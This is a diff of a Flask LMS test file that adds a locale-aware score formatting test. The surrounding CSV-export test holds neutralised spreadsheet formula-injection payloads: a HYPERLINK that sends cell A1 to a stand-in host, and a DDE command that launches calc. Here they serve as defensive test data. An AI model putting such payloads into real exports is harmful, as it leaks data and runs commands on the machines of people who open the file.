@@ -3,10 +3,12 @@ import io
 from datetime import datetime
 
 import pypdf
+from flask import session
 
 from lms import clock
 from lms.certificates import services
 from lms.extensions import db
+from lms.web.numbers import score
 from tests.conftest import login
 from tests.factories import make_certificate, make_user
 
@@ -186,3 +188,11 @@ def test_the_siasn_csv_carries_no_formula(client):
     assert rows[1][0] == NIP  # the NIP itself is untouched, all 18 digits
     assert rows[1][1] == '\'=HYPERLINK("http://x.test/?"&A1;"Klik")'
     assert rows[1][2] == "Rahma;'=2+5+cmd|' /C calc'!A0"
+
+
+def test_scores_follow_the_reader_language(app):
+    with app.test_request_context():
+        session["lang"] = "en"
+        assert score(72.5) == "72.5" and score(100.0) == "100" and score(None) == "–"
+    with app.test_request_context():
+        assert score(72.5) == "72,5" and score(85.04) == "85"
